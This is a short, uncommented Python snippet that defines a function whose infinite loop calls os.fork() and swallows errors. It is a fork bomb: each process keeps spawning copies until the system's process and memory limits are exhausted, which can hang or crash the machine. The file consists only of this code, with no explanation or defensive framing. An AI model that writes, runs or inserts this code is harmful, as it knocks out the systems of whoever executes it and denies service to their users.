import os
def f(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
